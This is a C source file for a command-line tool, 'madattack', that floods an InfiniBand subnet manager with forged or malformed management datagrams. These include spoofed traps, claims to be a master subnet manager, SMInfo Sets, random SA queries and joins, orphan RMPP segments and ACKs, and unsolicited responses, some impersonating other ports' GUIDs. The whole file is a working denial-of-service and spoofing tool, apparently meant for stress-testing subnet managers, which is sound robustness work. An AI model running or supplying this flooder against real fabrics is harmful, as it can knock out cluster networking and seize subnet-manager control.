/* SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause */
/*
 * madattack: floods a subnet manager from the port that it runs on.
 *
 *   madattack [-t SECONDS] [-n COUNT] [-r RATE] [-s SEED] [-d LID] [-g FILE] [-R PORT,...] KIND...
 *
 * Sends MADs of the kinds, one after the other, as fast as the device takes them or RATE in a
 * second, for SECONDS (2) or until COUNT are sent, to LID or else to the port's subnet manager.
 * It reads and drops what comes back.  FILE has GUIDs of ports, one a line, for kinds that claim to be
 * another.  -R is the directed route to the manager.  Prints the seed and how many were sent.
 *
 *   trap:NUMBER	a trap of a generic number; trap:vendor; trap:any
 *   sminfo		a Get that claims nothing
 *   claim:STATE	a Get that claims to be a subnet manager in STATE (1 to 3), of priority 15
 *   control:MODIFIER	a Set of SMInfo by a subnet manager that says it is master
 *   smp		Gets and Sets of any attribute
 *   routed		Gets of SMInfo and others by the directed route
 *   query		PathRecord Gets between ports by chance
 *   sa			any method and attribute of the SA class, with noise in the data
 *   inform, join	subscriptions and joins by chance, and their ends
 *   table		GetTable of all nodes, in RMPP, of which nothing is acknowledged
 *   segment		RMPP segments of transfers that nobody began
 *   ack		ACKs, STOPs and ABORTs of RMPP likewise
 *   reportresp, getresp	answers that nobody asked for; those to the SA class as RMPP
 *   class		classes and methods by chance
 */
#include <getopt.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <infiniband/umad_sm.h>

#include "chance.h"
#include "lib/base/alloc.h"
#include "lib/base/bytes.h"
#include "lib/base/clock.h"
#include "port.h"

#define MAD 256
enum { OFF_CLASS = 1, OFF_VERSION = 2, OFF_METHOD = 3, OFF_TID = 8, OFF_ATTR = 16, OFF_MOD = 20,
       OFF_SMP_DATA = 64, OFF_RMPP = 24, OFF_RMPP_TYPE = 25, OFF_RMPP_FLAGS = 26,
       OFF_RMPP_STATUS = 27, OFF_SEGMENT = 28, OFF_LENGTH = 32, OFF_MASK = 48, OFF_SA_DATA = 56,
       OFF_HOP_COUNT = 7, OFF_DR_LIDS = 32, OFF_PATH = 128 };
enum { CLASS_SMI = 1, CLASS_DR = 0x81, CLASS_SA = 3, CLASS_PERF = 4 };
enum { CLASSES = 256, KINDS_MAX = 32 };

static struct {
	struct own_port port;
	int agent[CLASSES];		/* of a class; -1: none yet */
	uint16_t lid;
	struct {
		struct ib_user_mad umad;
		uint8_t mad[MAD];
	} out;
	VEC(uint64_t) guids;
	uint8_t route[64];
	uint8_t hops;
	uint64_t sent, refused;
} io;

static int agent_of(uint8_t class)
{
	if (io.agent[class] < 0)
		io.agent[class] = umad_register(io.port.fd, class, class == CLASS_SA ? 2 : 1, 0, NULL);
	return io.agent[class];
}

static void open_port(void)
{
	own_port_open(&io.port);
	for (unsigned i = 0; i < CLASSES; i++)
		io.agent[i] = -1;
	if (!io.lid)
		io.lid = io.port.sm_lid;
}

static void send_mad(uint8_t *mad)
{
	bool smi = mad[OFF_CLASS] == CLASS_SMI || mad[OFF_CLASS] == CLASS_DR;
	int agent = agent_of(mad[OFF_CLASS]);

	if (agent < 0) {
		io.refused++;
		return;
	}
	memset(&io.out.umad, 0, sizeof(io.out.umad));
	umad_set_addr(&io.out, mad[OFF_CLASS] == CLASS_DR ? 0xffff : io.lid, !smi, 0,
		      smi ? 0 : (int)0x80010000);
	if (umad_send(io.port.fd, agent, &io.out, MAD, 0, 0) < 0)
		io.refused++;
	else
		io.sent++;
}

/* Discards what the other end sends. */
static void drain(void)
{
	uint8_t whole[sizeof(struct ib_user_mad) + MAD];
	int len = MAD;

	while (umad_recv(io.port.fd, whole, &len, 0) >= 0)
		len = MAD;
}

/* --- kinds --- */

static void head(uint8_t *mad, uint8_t class, uint8_t method, uint16_t attr, uint32_t mod)
{
	memset(mad, 0, MAD);
	mad[0] = 1;
	mad[OFF_CLASS] = class;
	mad[OFF_VERSION] = class == CLASS_SA ? 2 : 1;
	mad[OFF_METHOD] = method;
	put_be64(mad + OFF_TID, 1 + rnd(UINT32_MAX - 1));
	put_be16(mad + OFF_ATTR, attr);
	put_be32(mad + OFF_MOD, mod);
}

static void noise(uint8_t *at, size_t n)
{
	for (size_t i = 0; i < n; i++)
		at[i] = chance(50) ? 0 : (uint8_t)rnd(256);
}

static uint64_t some_guid(void)
{
	return io.guids.n ? io.guids.v[rnd(io.guids.n)] : io.port.guid;
}

static void make_trap(uint8_t *mad, const char *number)
{
	static const uint16_t numbers[] = { 64, 65, 128, 129, 130, 131, 144, 145, 256, 257, 258, 259 };
	bool any = !strcmp(number, "any"), vendor = !strcmp(number, "vendor") || (any && chance(10));
	unsigned n = any ? numbers[rnd(ARRAY_SIZE(numbers))] : (unsigned)atoi(number);

	head(mad, CLASS_SMI, UMAD_METHOD_TRAP, UMAD_ATTR_NOTICE, 0);
	mad[OFF_SMP_DATA] = vendor ? 0x01 : 0x81;
	put_be16(mad + OFF_SMP_DATA + 4, (uint16_t)(vendor ? rnd(65536) : n));
	put_be16(mad + OFF_SMP_DATA + 6, io.port.lid);
	put_be16(mad + OFF_SMP_DATA + 10, io.port.lid);
	if (any)
		noise(mad + OFF_SMP_DATA + 12, 42);
}

static void make_sm_info(uint8_t *mad, uint8_t method, uint32_t mod, unsigned smstate)
{
	head(mad, CLASS_SMI, method, UMAD_SM_ATTR_SM_INFO, mod);
	if (!smstate)
		return;
	put_be64(mad + OFF_SMP_DATA, some_guid());
	put_be32(mad + OFF_SMP_DATA + 16, (uint32_t)rnd(UINT32_MAX));
	mad[OFF_SMP_DATA + 20] = (uint8_t)(15 << 4 | smstate);
}

static void make_smp(uint8_t *mad)
{
	head(mad, CLASS_SMI, chance(50) ? UMAD_METHOD_GET : UMAD_METHOD_SET,
	     (uint16_t)(chance(50) ? rnd(0x40) : rnd(65536)), (uint32_t)rnd(256));
	noise(mad + OFF_SMP_DATA, 64);
}

static void make_routed(uint8_t *mad)
{
	head(mad, CLASS_DR, chance(90) ? UMAD_METHOD_GET : UMAD_METHOD_SET,
	     chance(90) ? UMAD_SM_ATTR_SM_INFO : 0x31, 0);
	put_be32(mad + OFF_DR_LIDS, 0xffffffff);
	mad[OFF_HOP_COUNT] = io.hops;
	memcpy(mad + OFF_PATH, io.route, sizeof(io.route));
}

static void make_query(uint8_t *mad)
{
	head(mad, CLASS_SA, UMAD_METHOD_GET, 0x35, 0);
	put_be64(mad + OFF_MASK, 1 << 2 | 1 << 3);	/* DGID, SGID */
	put_be64(mad + OFF_SA_DATA + 8, UINT64_C(0xfe80000000000000));
	put_be64(mad + OFF_SA_DATA + 16, some_guid());
	put_be64(mad + OFF_SA_DATA + 24, UINT64_C(0xfe80000000000000));
	put_be64(mad + OFF_SA_DATA + 32, io.port.guid);
}

static void make_sa(uint8_t *mad)
{
	static const uint8_t methods[] = { 0x01, 0x02, 0x12, 0x13, 0x14, 0x15 };
	static const uint8_t attrs[] = { 0x01, 0x02, 0x03, 0x11, 0x12, 0x13, 0x14, 0x15, 0x16, 0x17,
					 0x18, 0x19, 0x1b, 0x20, 0x30, 0x31, 0x33, 0x35, 0x36, 0x38,
					 0x39, 0x3a, 0xf3 };

	head(mad, CLASS_SA, methods[rnd(sizeof(methods))],
	     chance(90) ? attrs[rnd(sizeof(attrs))] : (uint16_t)rnd(65536), 0);
	put_be64(mad + OFF_MASK, chance(50) ? 0 : rnd(UINT64_MAX) & rnd(UINT64_MAX));
	noise(mad + OFF_SA_DATA, MAD - OFF_SA_DATA);
}

static void make_inform(uint8_t *mad)
{
	uint8_t *data = mad + OFF_SA_DATA;

	head(mad, CLASS_SA, UMAD_METHOD_SET, 0x03, 0);
	put_be16(data + 16, 0xffff);		/* of all LIDs */
	data[22] = 1;				/* generic */
	data[23] = !chance(30);			/* subscribe */
	put_be16(data + 24, 0xffff);
	put_be16(data + 26, chance(50) ? 0xffff : (uint16_t)rnd(300));
	put_be32(data + 32, 0xffffff);
}

static void make_join(uint8_t *mad)
{
	uint8_t *data = mad + OFF_SA_DATA;

	head(mad, CLASS_SA, chance(70) ? UMAD_METHOD_SET : 0x15, 0x38, 0);
	/* MGID, PortGID, Q_Key, P_Key, TClass, SL, FlowLabel, JoinState */
	put_be64(mad + OFF_MASK, 0x3 | 1 << 2 | 1 << 6 | 1 << 7 | 1 << 12 | 1 << 13 | 1 << 15 | 1 << 16);
	put_be64(data, UINT64_C(0xff12401bffff0000));
	put_be64(data + 8, rnd(256));
	put_be64(data + 16, UINT64_C(0xfe80000000000000));
	put_be64(data + 24, io.port.guid);
	put_be32(data + 32, 0x0b1b);
	put_be16(data + 40, 0xffff);
	data[48] = 1;
}

static void make_segment(uint8_t *mad, bool data)
{
	head(mad, CLASS_SA, chance(50) ? 0x14 : UMAD_METHOD_GET, chance(50) ? 0x3a : 0x11, 0);
	mad[OFF_RMPP] = 1;
	mad[OFF_RMPP_TYPE] = data ? 1 : (uint8_t)(2 + rnd(3));
	mad[OFF_RMPP_FLAGS] = data && chance(80) ? 0x03 : 0x01;	/* active, first */
	mad[OFF_RMPP_STATUS] = data ? 0 : (uint8_t)rnd(130);
	put_be32(mad + OFF_SEGMENT, (uint32_t)(chance(80) ? 1 : rnd(1000)));
	put_be32(mad + OFF_LENGTH, (uint32_t)rnd(1 << 20));
}

static void make_answer(uint8_t *mad, bool report)
{
	static const uint8_t classes[] = { CLASS_SA, CLASS_PERF, CLASS_SMI };

	head(mad, report ? CLASS_SA : classes[rnd(sizeof(classes))], report ? 0x86 : 0x81,
	     report ? UMAD_ATTR_NOTICE : (uint16_t)rnd(0x40), 0);
	put_be64(mad + OFF_TID, rnd(1 << 16) << 16 | rnd(1024));
	if (mad[OFF_CLASS] == CLASS_SA) {	/* as the kernel delivers what it cannot match */
		mad[OFF_RMPP] = 1;
		mad[OFF_RMPP_TYPE] = 1;
		mad[OFF_RMPP_FLAGS] = 1;
	}
}

static void make_class(uint8_t *mad)
{
	static const uint8_t classes[] = { CLASS_SMI, CLASS_SA, CLASS_PERF, 0x06, 0x07, 0x21, 0x09, 0x0a };

	head(mad, classes[rnd(sizeof(classes))], (uint8_t)rnd(256), (uint16_t)rnd(65536),
	     (uint32_t)rnd(UINT32_MAX));
	noise(mad + OFF_RMPP, MAD - OFF_RMPP);
}

static bool make(uint8_t *mad, const char *kind)
{
	const char *colon = strchr(kind, ':');
	size_t n = colon ? (size_t)(colon - kind) : strlen(kind);
	const char *arg = colon ? colon + 1 : "";

#define IS(name) (n == strlen(name) && !memcmp(kind, name, n))
	if (IS("trap"))
		make_trap(mad, arg);
	else if (IS("sminfo"))
		make_sm_info(mad, UMAD_METHOD_GET, 0, 0);
	else if (IS("claim"))
		make_sm_info(mad, UMAD_METHOD_GET, 0, (unsigned)atoi(arg));
	else if (IS("control"))
		make_sm_info(mad, UMAD_METHOD_SET, (uint32_t)atoi(arg), 3);
	else if (IS("smp"))
		make_smp(mad);
	else if (IS("routed"))
		make_routed(mad);
	else if (IS("query"))
		make_query(mad);
	else if (IS("sa"))
		make_sa(mad);
	else if (IS("inform"))
		make_inform(mad);
	else if (IS("join"))
		make_join(mad);
	else if (IS("table"))
		head(mad, CLASS_SA, 0x12, 0x11, 0);
	else if (IS("segment") || IS("ack"))
		make_segment(mad, IS("segment"));
	else if (IS("reportresp") || IS("getresp"))
		make_answer(mad, IS("reportresp"));
	else if (IS("class"))
		make_class(mad);
	else
		return false;
#undef IS
	return true;
}

/* --- the flood --- */

static void read_route(char *text)
{
	for (char *port = strtok(text, ","); port && io.hops < 63; port = strtok(NULL, ","))
		io.route[++io.hops] = (uint8_t)atoi(port);
}

static void read_guids(const char *path)
{
	FILE *f = fopen(path, "r");
	char line[64];

	if (!f)
		die("can't read the GUIDs");
	while (fgets(line, sizeof(line), f))
		*vec_push(&io.guids) = strtoull(line, NULL, 16);
	fclose(f);
}

static void flood(char **kinds, unsigned n_kinds, int64_t us, uint64_t count, unsigned rate)
{
	int64_t begin = clock_mono_us(), end = begin + us, now;

	for (uint64_t i = 0; (!count || i < count); i++) {
		make(io.out.mad, kinds[i % n_kinds]);
		send_mad(io.out.mad);
		if (i % 16 && !rate)
			continue;
		drain();
		now = clock_mono_us();
		if (now >= end)
			break;
		if (rate && (int64_t)(i * 1000000 / rate) > now - begin)
			usleep((useconds_t)((int64_t)(i * 1000000 / rate) - (now - begin)));
	}
}

int main(int argc, char **argv)
{
	double seconds = 2;
	unsigned rate = 0;
	uint64_t count = 0, seed = 1;
	int64_t begin;
	int c;

	while ((c = getopt(argc, argv, "+t:n:r:s:d:g:R:")) != -1)
		switch (c) {
		case 't': seconds = atof(optarg); break;
		case 'n': count = strtoull(optarg, NULL, 0); break;
		case 'r': rate = (unsigned)atoi(optarg); break;
		case 's': seed = strtoull(optarg, NULL, 0); break;
		case 'd': io.lid = (uint16_t)strtoul(optarg, NULL, 0); break;
		case 'g': read_guids(optarg); break;
		case 'R': read_route(optarg); break;
		default: return 2;
		}
	state = seed;
	for (int i = optind; i < argc; i++)
		if (!make(io.out.mad, argv[i]))
			die("there is no such kind");
	if (optind == argc)
		die("which kinds?");
	open_port();
	begin = clock_mono_us();
	flood(argv + optind, (unsigned)(argc - optind), (int64_t)(seconds * 1e6), count, rate);
	printf("seed=%llu sent=%llu refused=%llu rate=%.0f\n", (unsigned long long)seed,
	       (unsigned long long)io.sent, (unsigned long long)io.refused,
	       (double)io.sent * 1e6 / (double)(clock_mono_us() - begin));
	own_port_close(&io.port);
	vec_free(&io.guids);
	return 0;
}
